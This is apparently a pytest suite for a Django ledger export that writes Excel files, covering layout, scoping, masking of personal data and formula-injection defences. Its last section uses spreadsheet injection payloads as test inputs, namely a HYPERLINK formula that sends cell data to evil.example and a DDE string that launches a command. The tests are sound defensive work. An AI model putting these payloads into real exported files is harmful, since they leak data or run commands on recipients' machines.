"""The ledger export API: write_xlsx with its progress callback, the immediate download, and the enterprise
ledger built without a request (what a background export job does)."""

from __future__ import annotations

import io
import re
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.http import QueryDict
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from anlan.core import exports
from anlan.core.models import Region
from anlan.core.rules import mask_id_number, mask_phone

from .factories import DepartmentFactory, EnterpriseFactory, industry

pytestmark = pytest.mark.django_db


def numbers_ledger(n: int) -> exports.Ledger:
    """A ledger of n rows that needs no data: the queryset (n of the loaded regions) is only counted."""
    return exports.Ledger(
        name="numbers",
        sheet_title="数字",
        columns=[exports.Column("数", 4, exports.NUMBER), exports.Column("名称", 20)],
        queryset=Region.objects.all()[:n],
        rows=lambda queryset: ([i, f"第{i}行"] for i in range(1, n + 1)),
    )


def sheet_of(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def rows_of(data: bytes) -> list[list]:
    return [list(row) for row in sheet_of(data).iter_rows(values_only=True)]


def data_of(data: bytes) -> list[list]:
    """The data rows (below title, info and header), without 序号."""
    return [row[1:] for row in rows_of(data)[exports.HEADER_ROW :]]


def written(ledger: exports.Ledger):
    handle = io.BytesIO()
    exports.write_xlsx(ledger, handle)
    return sheet_of(handle.getvalue())


def test_write_xlsx_reports_progress_every_n_rows_and_once_at_the_end():
    handle = io.BytesIO()
    calls = []
    written = exports.write_xlsx(numbers_ledger(5), handle, progress=calls.append, every=2)
    assert written == 5
    assert calls == [2, 4, 5]
    assert rows_of(handle.getvalue())[2:] == [
        ["序号", "数", "名称"],
        [1, 1, "第1行"],
        [2, 2, "第2行"],
        [3, 3, "第3行"],
        [4, 4, "第4行"],
        [5, 5, "第5行"],
    ]


def test_an_empty_ledger_reports_zero_rows_once_and_keeps_its_title_and_header():
    handle = io.BytesIO()
    calls = []
    assert exports.write_xlsx(numbers_ledger(0), handle, progress=calls.append) == 0
    assert calls == [0]
    sheet = sheet_of(handle.getvalue())
    assert sheet["A1"].value == "数字"
    assert re.fullmatch(r"导出时间：\d{4}-\d{2}-\d{2} \d{2}:\d{2}　共 0 条", sheet["A2"].value)
    assert [cell.value for cell in sheet[3]] == ["序号", "数", "名称"]
    assert sheet.max_row == 3
    assert sheet.auto_filter.ref == "A3:C3"


@time_machine.travel(datetime(2026, 3, 31, 9, 30, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False)
def test_every_ledger_has_a_title_an_info_row_a_numbered_frozen_filterable_header():
    sheet = written(numbers_ledger(5))
    assert sheet.title == "数字"
    assert sheet["A1"].value == "数字"
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert sheet["A2"].value == "导出时间：2026-03-31 09:30　共 5 条"
    assert [cell.value for cell in sheet[3]] == ["序号", "数", "名称"]
    assert all(cell.font.b for cell in sheet[3])
    assert [sheet.cell(row, 1).value for row in range(4, 9)] == [1, 2, 3, 4, 5]
    assert not sheet["A4"].font.b
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:C8"


def test_column_widths_come_from_the_header_or_the_typical_content_a_cjk_character_counting_two():
    sheet = written(numbers_ledger(1))
    # 序号: the header (4) is wider than the typical serial (4); 名称: typical 20; each plus 2.
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [6, 6, 22]


@pytest.mark.parametrize(
    ("text", "width"),
    [("", 0), ("abc", 3), ("隐患描述", 8), ("整改资金（万元）", 16), ("2026-03-31", 10), ("Ａ", 2)],
    ids=["empty", "latin", "cjk", "fullwidth-brackets", "date", "fullwidth-latin"],
)
def test_display_width_counts_a_wide_character_twice(text, width):
    assert exports.display_width(text) == width


@pytest.mark.parametrize(
    ("column", "width"),
    [
        (exports.Column("隐患描述", 46, exports.WRAP), 48),
        (exports.Column("主要负责人居民身份证号码", 18), 26),
        (exports.Column("发现日期", 0, exports.DATE), 12),
        (exports.Column("验收时间", 0, exports.DATETIME), 18),
        (exports.Column("很长的说明", 200, exports.WRAP), exports.MAX_WIDTH),
    ],
    ids=["typical-content", "long-header", "date", "datetime", "capped"],
)
def test_column_width_is_the_wider_of_header_and_content_plus_a_margin(column, width):
    assert exports.column_width(column) == width


def typed_ledger(values: list[list]) -> exports.Ledger:
    return exports.Ledger(
        name="typed",
        sheet_title="类型",
        columns=[
            exports.Column("日期", 0, exports.DATE),
            exports.Column("时间", 0, exports.DATETIME),
            exports.Column("金额", 8, exports.NUMBER),
            exports.Column("描述", 40, exports.WRAP),
        ],
        queryset=Region.objects.all(),
        rows=lambda queryset: iter(values),
    )


def test_dates_are_date_cells_numbers_are_numbers_and_long_text_wraps():
    sheet = written(
        typed_ledger(
            [
                [date(2026, 3, 31), datetime(2026, 3, 31, 9, 30), 12.5, "很长的描述"],
                [date(2026, 4, 1), datetime(2026, 4, 1, 18, 5), 3, "=1+1"],
                [None, None, None, None],
            ]
        )
    )
    day, moment, money, text = (sheet.cell(4, column) for column in (2, 3, 4, 5))
    assert (day.value, day.is_date, day.number_format) == (datetime(2026, 3, 31), True, "yyyy-mm-dd")
    assert (moment.value, moment.is_date, moment.number_format) == (
        datetime(2026, 3, 31, 9, 30),
        True,
        "yyyy-mm-dd hh:mm",
    )
    assert (money.data_type, money.value) == ("n", 12.5)
    assert (text.value, text.alignment.wrap_text) == ("很长的描述", True)
    # The styled cells of the next row are their own values, not the first row's.
    assert [sheet.cell(5, column).value for column in (2, 3, 4)] == [
        datetime(2026, 4, 1),
        datetime(2026, 4, 1, 18, 5),
        3,
    ]
    assert sheet.cell(5, 2).number_format == "yyyy-mm-dd"
    formula = sheet.cell(5, 5)
    assert (formula.data_type, formula.value, formula.quotePrefix, formula.alignment.wrap_text) == (
        "s",
        "=1+1",
        True,
        True,
    )
    assert [sheet.cell(6, column).value for column in (1, 2, 3, 4, 5)] == [3, None, None, None, None]


def test_the_ledger_file_name_is_its_stem_and_the_local_time():
    assert re.fullmatch(r"numbers-\d{8}-\d{4}\.xlsx", numbers_ledger(0).filename())


def test_xlsx_response_streams_the_whole_ledger_as_an_attachment():
    response = exports.xlsx_response(numbers_ledger(3))
    assert response["Content-Type"] == exports.XLSX
    assert re.fullmatch(r'attachment; filename="numbers-\d{8}-\d{4}\.xlsx"', response["Content-Disposition"])
    assert len(rows_of(b"".join(response.streaming_content))) == 3 + 3


def test_the_enterprise_ledger_is_scoped_without_a_request(cast):
    ledger = exports.enterprise_ledger(cast["town_b"], QueryDict(""))
    assert ledger.count() == 1
    assert [row[1] for row in ledger.rows(ledger.queryset)] == ["安徽来安化工有限公司"]


def test_the_enterprise_ledger_applies_the_saved_query_string(cast):
    EnterpriseFactory(name="来安县建工二公司", region=cast.village_a, industry=industry("construction"))
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("q=建工&sort=-name"))
    assert [row[1] for row in ledger.rows(ledger.queryset)] == ["来安县建工集团有限公司", "来安县建工二公司"]
    assert exports.enterprise_ledger(cast["county_office"], QueryDict("q=建工")).count() == 2
    assert exports.enterprise_ledger(cast["county_office"], QueryDict("")).count() == 3


def test_an_invalid_query_exports_the_whole_scope_in_list_order(cast):
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("scale=nonsense&sort=-name"))
    assert [row[1] for row in ledger.rows(ledger.queryset)] == [
        cast.enterprise_x.name,
        cast.enterprise_y.name,
    ]


def enterprise_row(cast, user) -> dict:
    ledger = exports.enterprise_ledger(user, QueryDict("q=建工"))
    (row,) = ledger.rows(ledger.queryset)
    return dict(zip(ledger.headers, row, strict=True))


def test_an_enterprise_row_holds_the_same_values_and_types_as_the_record(cast):
    x = cast.enterprise_x
    x.longitude, x.latitude, x.has_major_hazard_source = "118.4321000", "32.4523000", True
    x.save()
    row = enterprise_row(cast, cast["town_a"])
    assert row == {
        "统一社会信用代码": x.uscc,
        "单位名称": x.name,
        "所属区划": "东关社区",
        "主行业领域": x.industry.name,
        "监管部门": "来安县住房和城乡建设局",
        "地址": x.address,
        "规模": x.get_scale_display(),
        "从业人员数": 20,
        "法定代表人": x.legal_representative,
        "主要负责人": x.principal.name,
        "主要负责人居民身份证号码": x.principal.id_number,
        "主要负责人电话": x.principal_phone,
        "安全管理人员": x.safety_manager,
        "安全管理人员电话": x.safety_manager_phone,
        "经营状态": x.get_status_display(),
        "重大危险源": "是",
        "人员密集场所": "否",
        "经度": 118.4321,
        "纬度": 32.4523,
    }
    assert type(row["经度"]) is float


def test_phones_and_id_numbers_are_masked_for_a_user_who_may_not_see_them(cast):
    x = cast.enterprise_x
    row = enterprise_row(cast, cast["leader"])
    assert row["主要负责人居民身份证号码"] == mask_id_number(x.principal.id_number)
    assert row["主要负责人电话"] == mask_phone(x.principal_phone)
    assert row["安全管理人员电话"] == mask_phone(x.safety_manager_phone)
    assert row["主要负责人居民身份证号码"] != x.principal.id_number


def test_an_enterprise_without_principal_exports_empty_principal_cells(cast):
    EnterpriseFactory(
        name="无负责人公司",
        region=cast.village_a,
        industry=industry("commerce"),
        principal=None,
        principal_phone="",
    )
    for user in (cast["town_a"], cast["leader"]):
        ledger = exports.enterprise_ledger(user, QueryDict("q=无负责人"))
        (row,) = ledger.rows(ledger.queryset)
        assert row[9:12] == ["", "", ""]


def test_the_enterprise_ledger_reads_in_a_constant_number_of_queries(cast, django_assert_max_num_queries):
    for number in range(30):
        EnterpriseFactory(name=f"批量{number}公司", region=cast.village_a, industry=industry("commerce"))
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("q=公司"))
    # The scope, the count, the rows, their other industries, and the departments with their industries and
    # the industry tree (recipients.DepartmentRouter) — whatever the number of rows.
    with django_assert_max_num_queries(7):
        assert exports.write_xlsx(ledger, io.BytesIO()) == 32


def test_an_enterprise_is_supervised_by_the_departments_of_its_main_and_other_industries(cast):
    x = cast.enterprise_x
    x.other_industries.add(industry("road-transport"), industry("urban-gas"))
    DepartmentFactory(name="新安镇建设办", region=cast.town_a, industries=[industry("construction")])
    assert (
        enterprise_row(cast, cast["county_office"])["监管部门"]
        == "新安镇建设办、来安县交通运输局、来安县住房和城乡建设局"
    )


def test_an_enterprise_no_department_supervises_has_an_empty_department_cell(cast):
    ledger = exports.enterprise_ledger(cast["county_office"], QueryDict("q=化工"))
    (row,) = ledger.rows(ledger.queryset)
    assert dict(zip(ledger.headers, row, strict=True))["监管部门"] == ""


def test_the_enterprise_ledger_sheet_follows_the_ledger_standard(cast, as_user):
    EnterpriseFactory(name="=1+1", region=cast.village_a, industry=industry("construction"), employees=7)
    response = as_user(cast["county_office"]).get(
        reverse("core:enterprise-export"),
        {"region": cast.town_a.code, "status": "operating", "sort": "-name"},
    )
    sheet = sheet_of(b"".join(response.streaming_content))
    assert sheet["A1"].value == "生产经营单位台账　新安镇　经营状态：正常生产经营"
    headers = [cell.value for cell in sheet[3]]
    assert headers[:6] == ["序号", "统一社会信用代码", "单位名称", "所属区划", "主行业领域", "监管部门"]
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == f"A3:{get_column_letter(len(headers))}5"
    names = [sheet.cell(row, 3) for row in (4, 5)]
    assert [(cell.value, cell.data_type) for cell in names] == [
        ("来安县建工集团有限公司", "s"),
        ("=1+1", "s"),
    ]
    employees = [sheet.cell(row, headers.index("从业人员数") + 1) for row in (4, 5)]
    assert [(cell.value, cell.data_type) for cell in employees] == [(20, "n"), (7, "n")]


def test_without_a_region_filter_the_title_names_the_users_scope(cast):
    ledger = exports.enterprise_ledger(cast["dept_housing"], QueryDict("q=建工&major_hazard=false&page=3"))
    assert ledger.title() == "生产经营单位台账　来安县住房和城乡建设局　名称或信用代码：建工；重大危险源：否"
    assert exports.enterprise_ledger(cast["town_a"], QueryDict("")).title() == "生产经营单位台账　新安镇"


def test_the_export_view_still_downloads_at_once(cast, as_user):
    response = as_user(cast["town_a"]).get(reverse("core:enterprise-export"), {"q": "建工"})
    assert response.status_code == 200
    assert re.fullmatch(
        r'attachment; filename="enterprises-\d{8}-\d{4}\.xlsx"', response["Content-Disposition"]
    )
    assert [row[1] for row in data_of(b"".join(response.streaming_content))] == ["来安县建工集团有限公司"]


# ---------------------------------------------------------------- formula injection (OWASP CSV injection)


def text_ledger(values: list) -> exports.Ledger:
    return exports.Ledger(
        name="texts",
        sheet_title="文本",
        columns=[exports.Column("值", 20)],
        queryset=Region.objects.all(),
        rows=lambda queryset: ([value] for value in values),
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/","点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr"],
)
def test_text_that_would_start_a_formula_is_written_as_quoted_text(text):
    handle = io.BytesIO()
    exports.write_xlsx(text_ledger([text]), handle)
    cell = sheet_of(handle.getvalue()).cell(4, 2)
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def test_numbers_dates_and_plain_text_keep_their_types():
    handle = io.BytesIO()
    exports.write_xlsx(text_ledger([-5, 3.5, "普通文本", "a=b"]), handle)
    cells = [sheet_of(handle.getvalue()).cell(row, 2) for row in (4, 5, 6, 7)]
    assert [(c.data_type, c.value, c.quotePrefix) for c in cells] == [
        ("n", -5, False),
        ("n", 3.5, False),
        ("s", "普通文本", False),
        ("s", "a=b", False),
    ]


def test_an_enterprise_address_set_to_a_hyperlink_formula_is_exported_as_text(cast, as_user):
    address = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    cast.enterprise_x.address = address
    cast.enterprise_x.save()
    response = as_user(cast["town_a"]).get(reverse("core:enterprise-export"), {"q": "建工"})
    sheet = sheet_of(b"".join(response.streaming_content))
    headers = [cell.value for cell in sheet[3]]
    address_cell = sheet.cell(4, headers.index("地址") + 1)
    employees_cell = sheet.cell(4, headers.index("从业人员数") + 1)
    assert (address_cell.data_type, address_cell.value, address_cell.quotePrefix) == ("s", address, True)
    assert (employees_cell.data_type, employees_cell.value) == ("n", 20)
